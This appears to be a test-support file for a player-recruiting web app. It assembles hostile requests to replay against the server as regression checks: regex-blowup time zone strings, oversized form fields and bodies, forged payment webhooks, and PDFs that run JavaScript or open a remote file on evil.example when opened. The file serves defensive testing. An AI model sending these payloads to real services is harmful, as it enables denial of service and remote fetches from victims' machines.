import { pageWith } from "../../support/factories/hostile-pdfs";
import { aRecruiterForm } from "../../support/factories/sign-ups";
import { costlyFiles } from "./costly-files";
import { type Fields, formOf, formOfAct, type Sent } from "./forms-of-acts";
import type { Act } from "./generated-body";

/** Time zone names that were once parsed in exponential time. */
export const zones = ["A/A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A/", `A/${"A+".repeat(60)}/`];

type Attack = Sent & { what: string };
const texts = formOf(Array(1_500).fill(["a", "a".repeat(5_000)]));
type Cookies = Record<"player" | "recruiter" | "admin", string>;

/** PDFs with actions that run when they are opened. */
const active = [
  pageWith({ catalog: "/OpenAction<</S/Rendition/JS(app.alert(1))>>" }),
  pageWith({ catalog: "/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>" }),
];

/** Single requests that once blocked or stopped the server, filled its memory, or were accepted wrongly. */
export function knownAttacks(acts: readonly Act[], cookies: Cookies): Attack[] {
  const form = (name: string, fields: Record<string, unknown>, cookie = "") => {
    const act = acts.find((action) => action.name === name);
    if (!act) throw new Error(`no act ${name}`);
    const list: Fields = Object.entries(fields);
    return { what: `${name}: ${Object.keys(fields).join()}`, ...formOfAct(act, list, cookie) };
  };
  const [player, admin] = [cookies.player, cookies.admin];
  const club = { ...aRecruiterForm(), identity: "", organizationProof: "" };
  return [
    form("signUp", { email: "a@test.recruit", password: `${"!".repeat(100_000)}a` }),
    form("signUpRecruiter", { ...club, websiteUrl: `${".".repeat(100_000)}@` }),
    ...costlyFiles().map((file) => form("signUpRecruiter", { ...club, identity: file, organizationProof: file })),
    ...[...costlyFiles(), ...active].map((file) => form("stageFile", { kind: "shared", file }, player)),
    ...[...zones, `A/${"A+".repeat(3_000)}/`].flatMap((zone) => [
      ...["/api/bell", "/dashboard", "/events", "/en/about"].map((path) => ({
        what: `${path}, a zone of ${zone.length} letters`,
        path,
        method: "GET",
        headers: { cookie: `${player}; zone=${zone}` },
      })),
      form("saveSettings", { zone }, player),
      form("createEvent", { timeZone: zone }, cookies.recruiter),
      form("publishArticle", { id: crypto.randomUUID(), zone }, admin),
    ]),
    form("requestContact", { playerId: crypto.randomUUID(), message: "㌖".repeat(4_000) }, cookies.recruiter),
    form("applyForJob", { jobId: crypto.randomUUID(), message: "㌖".repeat(2_000) }, player),
    form("sendMessage", { threadId: crypto.randomUUID(), content: "㌖".repeat(4_000) }, player),
    form("editVideo", { videoId: crypto.randomUUID(), title: "a", captions: "㌖".repeat(20_000) }, player),
    ...["/contact", "/api/players/videos"].flatMap((path) => [
      { what: `texts of 7.5 MB to ${path}`, path, ...texts },
      { what: `texts of 7.5 MB of a member to ${path}`, path, ...texts, headers: { ...texts.headers, cookie: player } },
    ]),
    ...["null", '{"created":1e20}'].map((text) => ({
      what: `an event of the payment provider: ${text}`,
      path: "/api/stripe/webhook",
      headers: { "content-type": "application/json", "stripe-signature": "t=1,v1=00" },
      body: Buffer.from(text),
    })),
  ];
}
